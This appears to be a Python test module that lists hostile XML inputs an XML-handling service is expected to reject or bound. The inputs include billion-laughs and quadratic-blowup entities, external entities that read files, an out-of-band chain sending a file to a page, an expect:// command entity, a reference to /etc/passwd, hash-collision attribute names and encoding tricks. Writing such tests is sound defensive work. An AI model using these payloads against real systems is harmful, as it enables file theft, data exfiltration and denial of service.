"""Attacks on whoever turns bytes into a tree: entities, encodings, sizes, and XML that is none."""

from tests.hostile.attack import LIMIT, MALFORMED, TAKEN, XSD, Attack, before, behind, entity, only, tagged, valued


def attributes(count: int) -> str:
    """So many attributes of different names."""
    return " ".join(f"a{number}=''" for number in range(count))


def of_one_hash(count: int) -> str:
    """So many names whose hash is the same wherever it is a sum of letters times 31: Aa and BB look alike to it."""
    return " ".join(f"{number:010b}=''".replace("0", "Aa").replace("1", "BB") for number in range(count))


PAIRS = zip("abcdefghi", "bcdefghij", strict=True)
LAUGHS = '<!ENTITY a "ha">' + "".join(f"<!ENTITY {more} '{f'&{less};' * 10}'>" for less, more in PAIRS)
ENTITIES = (
    Attack("billion laughs", entity(LAUGHS, "&j;"), LIMIT),
    Attack("quadratic blowup", entity(f'<!ENTITY x "{"y" * 50_000}">', "&x;" * 20_000), LIMIT),
    Attack("an entity of itself", entity('<!ENTITY x "&y;"><!ENTITY y "&x;">'), LIMIT),
    Attack("an internal entity", entity('<!ENTITY x "MSG-1">'), LIMIT),
    Attack("a path as an entity", entity('<!ENTITY x SYSTEM "PATH:">'), LIMIT),
    Attack("a file as an entity", entity('<!ENTITY x SYSTEM "FILE:">'), LIMIT),
    Attack("a page as an entity", entity('<!ENTITY x SYSTEM "HTTP:">'), LIMIT),
    Attack("an FTP file as an entity", entity('<!ENTITY x SYSTEM "FTP:">'), LIMIT),
    Attack("jar", entity('<!ENTITY x SYSTEM "jar:HTTP:!/x.txt">'), LIMIT),
    Attack("netdoc", entity('<!ENTITY x SYSTEM "netdoc:PATH:">'), LIMIT),
    Attack("php", entity('<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=PATH:">'), LIMIT),
    Attack("expect", entity('<!ENTITY x SYSTEM "expect://cat%20PATH:">'), LIMIT),
    Attack("a public entity", entity('<!ENTITY x PUBLIC "-//X//Y" "HTTP:">'), LIMIT),
    Attack("an unparsed entity", entity('<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "FILE:" NDATA n>'), LIMIT),
    Attack("a parameter entity", entity('<!ENTITY % p SYSTEM "HTTP:"> %p;', "MSG-1"), LIMIT),
    Attack("a parameter entity of a file", entity('<!ENTITY % p SYSTEM "FILE:"> %p;', "MSG-1"), LIMIT),
    Attack(
        "a file sent to a page",
        entity('<!ENTITY % f SYSTEM "FILE:"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'HTTP:?%f;\'>"> %e; %s;', "MSG-1"),
        LIMIT,
    ),
    Attack(
        "an entity in a default attribute", entity('<!ENTITY x SYSTEM "FILE:"><!ATTLIST a b CDATA "&x;">', "1"), LIMIT
    ),
    Attack("a document type elsewhere", before('<!DOCTYPE a SYSTEM "HTTP:">'), LIMIT),
    Attack("a public document type", before('<!DOCTYPE a PUBLIC "-//X//Y" "FTP:">'), LIMIT),
    Attack("a document type of a file", before('<!DOCTYPE a SYSTEM "FILE:">'), LIMIT),
    Attack("an empty document type", before("<!DOCTYPE a>"), LIMIT),
    Attack("a document type in UTF-16", lambda d, _: ("\ufeff<!DOCTYPE a>" + d).encode("utf-16-le"), LIMIT),
    Attack("a document type behind a comment", before("<!-- x --><!DOCTYPE a SYSTEM 'FILE:'>"), LIMIT),
    Attack("a document type in small letters", before("<!doctype a>"), MALFORMED),
    Attack("a document type inside", valued("<!DOCTYPE a SYSTEM 'FILE:'>"), MALFORMED),
    Attack("a document type behind", behind("<!DOCTYPE a SYSTEM 'FILE:'>"), MALFORMED),
    Attack("an entity that nobody declared", valued("&x;"), MALFORMED),
    Attack("an entity declared inside", valued('<!ENTITY x SYSTEM "FILE:">&x;'), MALFORMED),
)
INSTRUCTIONS = (
    Attack("a style sheet", before('<?xml-stylesheet type="text/xsl" href="HTTP:"?>'), LIMIT),
    Attack("a model", before('<?xml-model href="FILE:"?>'), LIMIT),
    Attack("php inside", valued('<?php readfile("PATH:") ?>'), LIMIT),
    Attack("an instruction behind", behind("<?x y?>"), LIMIT),
    Attack("two declarations", before('<?xml version="1.0"?><?xml version="1.0"?>'), MALFORMED),
    Attack("a late declaration", before(' <?xml version="1.0"?>'), MALFORMED),
    Attack("XML 1.1", before('<?xml version="1.1"?>'), TAKEN, read="MSG-1"),
    Attack("XML 2.0", before('<?xml version="2.0"?>'), MALFORMED),
    Attack("standalone maybe", before('<?xml version="1.0" standalone="maybe"?>'), MALFORMED),
)
SIZES = (
    Attack("65 deep", valued("<a>" * 65 + "</a>" * 65), LIMIT),
    Attack("10,000 deep", valued("<a>" * 10_000 + "</a>" * 10_000), LIMIT),
    Attack("60,000 deep and never closed", only("<a>" * 60_000), LIMIT),
    Attack("20,001 elements", valued("<a/>" * 20_001), LIMIT),
    Attack("65 attributes", tagged(attributes(65)), LIMIT),
    Attack("2,040 attributes", valued(f"<a {attributes(60)}/>" * 34), LIMIT),
    Attack("257 namespaces", tagged(" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(257))), LIMIT),
    Attack(
        "attributes of one hash",
        valued(f"<a {of_one_hash(64)}/>" * 20),
        XSD,
    ),
    Attack("an attribute twice", tagged('a="1" a="2"'), MALFORMED),
    Attack("an attribute twice by two prefixes", tagged('xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2"'), MALFORMED),
    Attack("a name of 100,000 letters", valued(f"<{'a' * 100_000}/>"), LIMIT),
    Attack("an attribute's name of 100,000", tagged(f"{'a' * 100_000}=''"), LIMIT),
    Attack("a namespace of 100,000", valued(f"<a xmlns='{'a' * 100_000}'/>"), LIMIT),
    Attack("4,000 different names", valued("".join(f"<a{n}/>" for n in range(4_000))), LIMIT),
    Attack("different attributes' names", valued("".join(f'<a b{"b" * n}=""/>' for n in range(200))), LIMIT),
    Attack("a value of 200,000 letters", valued("M" * 200_000), TAKEN, read="M" * 200_000),
    Attack("200,000 line breaks", valued("\n" * 200_000), XSD),
    Attack("30,000 comments", valued("M" + "<!---->" * 30_000), TAKEN, read="M"),
    Attack("one byte too many", lambda d, _: d + " " * (262_145 - len(d)), "body-too-big"),
)
TEXTS = (
    Attack("a comment in a value", valued("MSG<!-- -->-1"), TAKEN, read="MSG-1"),
    Attack("a comment that holds a value", valued("MSG-<!--2-->1"), TAKEN, read="MSG-1"),
    Attack("only a comment", valued("<!-- MSG-1 -->"), XSD),
    Attack("another message in a comment", before("<!-- <amendFaultReport/> -->"), TAKEN, read="MSG-1"),
    Attack("two hyphens in a comment", valued("MSG-1<!-- -- -->"), MALFORMED),
    Attack("a comment without an end", valued("MSG-1<!--"), MALFORMED),
    Attack("CDATA in a value", valued("M<![CDATA[SG]]>-1"), TAKEN, read="MSG-1"),
    Attack("markup in CDATA", valued("<![CDATA[<evil a='1'/>&x;]]>"), TAKEN, read="<evil a='1'/>&x;"),
    Attack("CDATA in CDATA", valued("<![CDATA[a<![CDATA[b]]>c]]>"), MALFORMED),
    Attack("the end of a CDATA alone", valued("a]]>b"), MALFORMED),
    Attack("CDATA without an end", valued("<![CDATA[M"), MALFORMED),
    Attack("CDATA behind", behind("<![CDATA[ ]]>"), MALFORMED),
    Attack(
        "a document type, escaped", valued("&lt;!DOCTYPE a SYSTEM 'FILE'&gt;"), TAKEN, read="<!DOCTYPE a SYSTEM 'FILE'>"
    ),
    Attack("a NUL", valued("M\0"), MALFORMED),
    Attack("a NUL behind", behind("\0"), MALFORMED),
    Attack("a NUL in a name", tagged("a\0b='1'"), MALFORMED),
    Attack("a NUL by reference", valued("&#0;"), MALFORMED),
    Attack("a backspace by reference", valued("&#8;"), MALFORMED),
    Attack("a noncharacter by reference", valued("&#xFFFE;"), MALFORMED),
    Attack("half a pair by reference", valued("&#xD800;&#xDC00;"), MALFORMED),
    Attack("beyond Unicode by reference", valued("&#x110000;"), MALFORMED),
    Attack("a reference of 100,000 digits", valued(f"&#{'9' * 100_000};"), MALFORMED),
    Attack("an escape character", valued("\x1b[2J"), MALFORMED),
    Attack("letters that turn the line", valued("M\u202e\u2066-1"), TAKEN, read="M\u202e\u2066-1"),
    Attack("text behind", behind("evil"), MALFORMED),
    Attack("a second document", behind("<a/>"), MALFORMED),
    Attack("less-than in an attribute", tagged("a='<'"), MALFORMED),
)
ENCODINGS = (
    Attack("UTF-7", before('<?xml version="1.0" encoding="UTF-7"?>'), LIMIT),
    Attack("UTF-7, undeclared", lambda d, _: d.replace("<", "+ADw-").replace(">", "+AD4-"), MALFORMED),
    Attack("UTF-16 without a mark", lambda d, _: d.encode("utf-16-le"), LIMIT),
    Attack("UTF-16, big end first, without a mark", lambda d, _: d.encode("utf-16-be"), LIMIT),
    Attack("UTF-16 with a mark", lambda d, _: ("\ufeff" + d).encode("utf-16-be"), TAKEN, read="MSG-1"),
    Attack("UTF-16 cut in the middle", lambda d, _: ("\ufeff" + d).encode("utf-16-le")[:-1], MALFORMED),
    Attack("UTF-16 that is declared only", before('<?xml version="1.0" encoding="UTF-16"?>'), LIMIT),
    Attack(
        "UTF-16 that is declared UTF-8",
        lambda d, _: ('\ufeff<?xml version="1.0" encoding="UTF-8"?>' + d).encode("utf-16-le"),
        MALFORMED,
    ),
    Attack("UTF-8's mark, UTF-16 declared", before('\ufeff<?xml version="1.0" encoding="UTF-16"?>'), LIMIT),
    Attack("UTF-8's mark twice", before("\ufeff\ufeff"), MALFORMED),
    Attack("UTF-32", lambda d, _: d.encode("utf-32"), MALFORMED),
    Attack("UTF-32 without a mark", lambda d, _: d.encode("utf-32-be"), MALFORMED),
    Attack("EBCDIC", lambda d, _: d.encode("cp037", "replace"), MALFORMED),
    Attack("ISO 8859-1", before('<?xml version="1.0" encoding="ISO-8859-1"?>'), LIMIT),
    Attack("an encoding of 10,000 letters", before(f'<?xml version="1.0" encoding="{"x" * 10_000}"?>'), LIMIT),
    Attack(
        "ASCII that is none", lambda d, _: f'<?xml version="1.0" encoding="us-ascii"?>{d}<!--é-->'.encode(), MALFORMED
    ),
    Attack("overlong less-than", lambda d, _: d.encode().replace(b"<", b"\xc0\xbc"), MALFORMED),
    Attack("overlong NUL", lambda d, _: d.encode() + b"<!--\xc0\x80-->", MALFORMED),
    Attack("half a pair in UTF-8", lambda d, _: d.encode() + b"<!--\xed\xa0\x80-->", MALFORMED),
    Attack("beyond Unicode in UTF-8", lambda d, _: d.encode() + b"<!--\xf4\x90\x80\x80-->", MALFORMED),
    Attack("Latin-1 undeclared", lambda d, _: d.encode() + b"<!--\xe9-->", MALFORMED),
    Attack("compressed", only(bytes.fromhex("1f8b08000000000002ff")), MALFORMED),
    Attack("JSON", only('{"$ref": "file:///etc/passwd"}'), MALFORMED),
    Attack("a form", only("xml=%3Ca%2F%3E"), MALFORMED),
)
ATTACKS = ENTITIES + INSTRUCTIONS + SIZES + TEXTS + ENCODINGS
